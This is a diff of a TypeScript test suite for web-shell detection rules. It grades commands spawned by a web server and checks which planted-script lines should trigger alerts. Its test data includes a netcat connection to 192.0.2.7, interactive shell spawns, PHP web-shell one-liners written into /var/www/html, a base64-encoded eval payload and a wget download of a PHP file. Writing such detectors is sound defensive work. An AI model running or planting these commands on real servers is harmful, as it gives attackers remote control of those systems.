@@ -18,7 +18,11 @@ describe("a child of a web server", () => {
     ["nc 192.0.2.7 80", "high"],
     ["bash -i", "high"],
     ["python3 -c 'import pty'", "high"],
-    ["ps aux", "low"],
+    ["ps aux", "medium"],
+    ["pwd", "medium"],
+    ["perl -e 'print 1'", "medium"],
+    ["netstat -ie", "low"],
+    ["hostname -f", "low"],
   ])("%s is graded %s", (line, confidence) => {
     expect(grade(run(webShellCommand, [served(line)]))).toEqual([confidence]);
   });
@@ -31,6 +35,18 @@ describe("a child of a web server", () => {
     "ffmpeg -i a.mp4 b.webm",
   ])("%s raises nothing", (line) => {
     expect(run(webShellCommand, [served(line)])).toEqual([]);
+  });
+
+  test("under the account alone, questions that a console may ask are hints", () => {
+    const account = { uid: 33, user: "www-data" };
+    expect(grade(run(webShellCommand, [script("ps aux", account)]))).toEqual(["low"]);
+    expect(run(webShellCommand, [script("perl -e 'print 1'", account)])).toEqual([]);
+  });
+
+  test("of a java that says nothing of itself counts only where it reads accounts or secrets", () => {
+    const java = below("/usr/lib/jvm/x/bin/java");
+    expect(run(webShellCommand, [script("cat /etc/passwd", java)])).toHaveLength(1);
+    expect(run(webShellCommand, [script("id; uname -a; ps", java)])).toEqual([]);
   });
 
   test("is found up to four levels below, not five, unless its account tells", () => {
@@ -70,16 +86,19 @@ describe("a planted script", () => {
     "echo '<?php system($_GET[1]); ?>' > /var/www/html/a.php",
     "echo PD9waHAgZXZhbCgkX1BPU1RbMV0pOw== | base64 -d > x.php",
     "wget -O /var/www/html/b.php http://192.0.2.7/b",
+    "mv /dev/shm/q.jsp /var/lib/tomcat9/webapps/ROOT/q.jsp",
   ])("%s fires", (line) => {
     expect(run(webShellContent, [script(line)])).toHaveLength(1);
   });
 
-  test.each(["echo '<?php phpinfo();' > /var/www/html/i.php", "echo 'system($_GET[1])' > /root/notes.txt"])(
-    "%s raises nothing",
-    (line) => {
-      expect(run(webShellContent, [script(line)])).toEqual([]);
-    },
-  );
+  test.each([
+    "cp /root/site/q.php /var/www/html/q.php",
+    "cp /tmp/q.css /var/www/html/q.css",
+    "echo '<?php phpinfo();' > /var/www/html/i.php",
+    "echo 'system($_GET[1])' > /root/notes.txt",
+  ])("%s raises nothing", (line) => {
+    expect(run(webShellContent, [script(line)])).toEqual([]);
+  });
 
   const created = (path: string, exe: string): Fact => ({
     kind: "file.changed",
